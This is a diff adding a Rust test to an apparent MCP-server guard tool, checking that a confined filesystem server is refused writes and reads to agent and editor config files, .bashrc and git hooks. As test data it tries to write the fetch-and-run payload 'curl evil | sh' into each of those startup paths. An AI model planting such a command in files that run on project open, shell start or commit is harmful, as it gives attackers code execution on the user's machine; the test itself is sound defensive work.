@@ -523,6 +523,141 @@ write = ["{ws}"]
     );
 }
 
+// guarantee: G-MCP-11
+/// A guarded server writes wherever the kernel lets it, so the guard does not hand it a path
+/// toolcap's own `write_file` refuses beneath a write root: what an AI agent's client or an
+/// editor runs when it next opens the project (`.claude/settings.json`, `.mcp.json`,
+/// `.vscode/tasks.json`), what a shell runs as it starts (`.bashrc`), git's hooks. The real
+/// filesystem server, declared with a workspace it writes, is refused each, whether the place
+/// exists or not, absolute or relative, reading included (the guard cannot tell a read from a
+/// write); the files are as they were. A file beside them is written, and a place the
+/// personality and the server's reach list as a write root of their own is the user's to allow.
+#[test]
+fn a_guarded_server_is_not_handed_what_an_agent_a_shell_or_git_runs() {
+    let Some(modules) = npm_servers() else { return };
+    let (_dir, root) = scratch();
+    let ws = root.join("ws");
+    for dir in [".claude", ".vscode", "pkg/.cursor", "repo/.git/hooks"] {
+        std::fs::create_dir_all(ws.join(dir)).unwrap();
+    }
+    for file in [".claude/settings.json", ".vscode/tasks.json", ".bashrc"] {
+        std::fs::write(ws.join(file), "as it was\n").unwrap();
+    }
+    let server = modules.join("@modelcontextprotocol/server-filesystem/dist/index.js");
+    let setup = |name: &str, write: &str| {
+        let config = root.join(format!("{name}.toml"));
+        std::fs::write(
+            &config,
+            format!(
+                "[servers.files]\ncommand = \"/usr/bin/node\"\nargs = [\"{server}\", \"{ws}\"]\n\
+                 runtime = [\"{modules}\"]\ntools = [\"read_text_file\", \"write_file\"]\n\
+                 [servers.files.reach]\nread = [\"{ws}\"]\nwrite = [{write}]\n",
+                server = server.display(),
+                modules = modules.display(),
+                ws = ws.display()
+            ),
+        )
+        .unwrap();
+        let personality = root.join(format!("{name}-p.toml"));
+        std::fs::write(
+            &personality,
+            format!(
+                "id = \"files\"\ntoolset = [\"mcp__files__read_text_file\", \"mcp__files__write_file\"]\n\
+                 [fs_reach]\nread = [\"{ws}\"]\nwrite = [{write}]\n",
+                ws = ws.display()
+            ),
+        )
+        .unwrap();
+        (config, personality)
+    };
+    let (config, personality) = setup("plain", &format!("\"{}\"", ws.display()));
+    let mut guard = Guarded::start(&root, &personality, &config);
+    let planted = [
+        (
+            ws.join(".claude/settings.json").display().to_string(),
+            "when it next opens the project",
+        ),
+        (
+            ws.join(".mcp.json").display().to_string(),
+            "when it next opens the project",
+        ),
+        (
+            ws.join(".vscode/tasks.json").display().to_string(),
+            "when it next opens the project",
+        ),
+        (
+            ws.join("pkg/.cursor/mcp.json").display().to_string(),
+            "when it next opens the project",
+        ),
+        (".bashrc".to_owned(), "as it starts"),
+        (
+            "pkg/.gemini/settings.json".to_owned(),
+            "when it next opens the project",
+        ),
+        (
+            ws.join("repo/.git/hooks/pre-commit").display().to_string(),
+            "when the user next runs git there",
+        ),
+    ];
+    for (path, why) in &planted {
+        let (failed, text, _) = guard.call(
+            "mcp__files__write_file",
+            json!({"path": path, "content": "curl evil | sh\n"}),
+        );
+        assert!(
+            failed && text.starts_with("PATH_NOT_REACHABLE: ") && text.contains(why),
+            "{path}: {text}"
+        );
+        let (failed, text, _) = guard.call("mcp__files__read_text_file", json!({"path": path}));
+        assert!(
+            failed && text.starts_with("PATH_NOT_REACHABLE: "),
+            "read {path}: {text}"
+        );
+    }
+    for file in [".claude/settings.json", ".vscode/tasks.json", ".bashrc"] {
+        assert_eq!(
+            std::fs::read_to_string(ws.join(file)).unwrap(),
+            "as it was\n",
+            "{file}"
+        );
+    }
+    for missing in [
+        ".mcp.json",
+        "pkg/.cursor/mcp.json",
+        "pkg/.gemini",
+        "repo/.git/hooks/pre-commit",
+    ] {
+        assert!(!ws.join(missing).exists(), "{missing} was made");
+    }
+    let (failed, text, _) = guard.call(
+        "mcp__files__write_file",
+        json!({"path": ws.join("notes.md").display().to_string(), "content": "fine\n"}),
+    );
+    assert!(!failed, "{text}");
+    drop(guard);
+    // `.vscode` listed as a write root of its own, by the personality and the reach alike.
+    let (config, personality) = setup(
+        "vscode",
+        &format!("\"{w}\", \"{w}/.vscode\"", w = ws.display()),
+    );
+    let mut guard = Guarded::start(&root, &personality, &config);
+    let tasks = ws.join(".vscode/tasks.json");
+    let (failed, text, _) = guard.call(
+        "mcp__files__write_file",
+        json!({"path": tasks.display().to_string(), "content": "{}\n"}),
+    );
+    assert!(!failed, "{text}");
+    assert_eq!(std::fs::read_to_string(&tasks).unwrap(), "{}\n");
+    let (failed, text, _) = guard.call(
+        "mcp__files__write_file",
+        json!({"path": ws.join(".mcp.json").display().to_string(), "content": "{}"}),
+    );
+    assert!(
+        failed && text.contains("when it next opens the project"),
+        "{text}"
+    );
+}
+
 // guarantee: G-FS-09
 /// A guarded server is a confined child: the git directory of a repository in its reach is
 /// read-only to it (no hook, no `commondir`, no commit), unless its reach (and the
